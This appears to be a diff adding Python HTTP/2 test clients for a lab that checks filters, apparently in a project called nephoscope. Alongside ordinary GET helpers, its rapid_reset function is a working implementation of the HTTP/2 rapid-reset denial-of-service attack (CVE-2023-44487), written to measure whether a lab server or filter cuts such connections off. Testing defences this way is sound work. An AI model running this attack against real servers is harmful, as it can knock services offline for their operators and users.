@@ -1,0 +1,143 @@
+"""HTTP/2 test clients for the filters lab: ordinary requests and the rapid-reset pattern (CVE-2023-44487).
+
+Cleartext HTTP/2 with prior knowledge (h2c), as the lab's nginx listens. Uses the `h2` library (a dev
+dependency: this is test tooling, not something nephoscope runs on a provider's host).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.client
+import socket
+import time
+from dataclasses import asdict, dataclass
+from typing import Any
+
+
+@dataclass(slots=True)
+class ResetOutcome:
+    """What happened to one rapid-reset connection: how far it got and who ended it."""
+
+    streams_sent: int          # HEADERS+RST_STREAM pairs written before the connection ended (or all)
+    cut_off: bool              # the server (or a filter) ended the connection before the attack finished
+    goaway: bool               # a GOAWAY frame arrived
+    closed: bool               # the TCP connection was closed or reset
+    final_status: int | None   # status of an ordinary request sent on the same connection afterwards
+    seconds: float
+
+    def to_dict(self) -> dict[str, Any]:
+        """Return a JSON-ready dict."""
+        return asdict(self)
+
+
+def _headers(host: str, path: str = "/") -> list[tuple[str, str]]:
+    return [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path),
+            ("user-agent", "nephoscope-lab")]
+
+
+def _pump(sock: socket.socket, conn: Any, wait: float) -> tuple[list[Any], bool]:
+    """Read what the peer sent within `wait` seconds; return the h2 events and whether the socket closed."""
+    import h2.exceptions
+
+    events: list[Any] = []
+    sock.settimeout(wait)
+    try:
+        data = sock.recv(65536)
+    except TimeoutError:
+        return events, False
+    except OSError:
+        return events, True
+    if not data:
+        return events, True
+    try:
+        events = conn.receive_data(data)
+    except h2.exceptions.ProtocolError:
+        return events, True
+    with contextlib.suppress(OSError):
+        sock.sendall(conn.data_to_send())
+    return events, False
+
+
+def rapid_reset(host: str, port: int, streams: int = 500, batch: int = 25, timeout: float = 20.0) -> ResetOutcome:
+    """Open streams and cancel each at once (HEADERS then RST_STREAM), then try one ordinary request."""
+    import h2.config
+    import h2.connection
+    import h2.errors
+    import h2.events
+
+    started = time.monotonic()
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    sent, goaway, closed = 0, False, False
+    with socket.create_connection((host, port), timeout=timeout) as sock:
+        conn.initiate_connection()
+        sock.sendall(conn.data_to_send())
+        stream_id = 1
+        while sent < streams and not (goaway or closed):
+            for _ in range(min(batch, streams - sent)):
+                conn.send_headers(stream_id, _headers(host), end_stream=True)
+                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
+                stream_id += 2
+            try:
+                sock.sendall(conn.data_to_send())
+            except OSError:
+                closed = True
+                break
+            sent += batch if sent + batch <= streams else streams - sent
+            events, closed = _pump(sock, conn, 0.01)
+            goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
+        status = None
+        if not (goaway or closed):
+            try:
+                conn.send_headers(stream_id, _headers(host), end_stream=True)
+                sock.sendall(conn.data_to_send())
+            except (OSError, Exception):  # h2 refuses new streams on a terminated connection
+                closed = True
+            deadline = time.monotonic() + timeout
+            while status is None and not (goaway or closed) and time.monotonic() < deadline:
+                events, closed = _pump(sock, conn, 0.5)
+                for e in events:
+                    if isinstance(e, h2.events.ResponseReceived) and e.stream_id == stream_id:
+                        status = int(dict(e.headers).get(":status", "0"))
+                    elif isinstance(e, h2.events.ConnectionTerminated):
+                        goaway = True
+    return ResetOutcome(sent, goaway or closed or status is None, goaway, closed, status,
+                        round(time.monotonic() - started, 3))
+
+
+def h2_get(host: str, port: int, path: str = "/", timeout: float = 20.0) -> tuple[int, bytes]:
+    """Send one HTTP/2 (h2c prior knowledge) GET; return its status and body."""
+    import h2.config
+    import h2.connection
+    import h2.events
+
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    with socket.create_connection((host, port), timeout=timeout) as sock:
+        conn.initiate_connection()
+        conn.send_headers(1, _headers(host, path), end_stream=True)
+        sock.sendall(conn.data_to_send())
+        status, body = 0, b""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            events, closed = _pump(sock, conn, 1.0)
+            for e in events:
+                if isinstance(e, h2.events.ResponseReceived):
+                    status = int(dict(e.headers).get(":status", "0"))
+                elif isinstance(e, h2.events.DataReceived):
+                    body += e.data
+                    conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
+                elif isinstance(e, h2.events.StreamEnded):
+                    return status, body
+            if closed:
+                break
+    raise OSError(f"no complete HTTP/2 response from {host}:{port}{path}")
+
+
+def http1_get(host: str, port: int, path: str = "/", timeout: float = 20.0) -> tuple[int, bytes]:
+    """Send one HTTP/1.1 GET; return its status and body."""
+    conn = http.client.HTTPConnection(host, port, timeout=timeout)
+    try:
+        conn.request("GET", path)
+        resp = conn.getresponse()
+        return resp.status, resp.read()
+    finally:
+        conn.close()
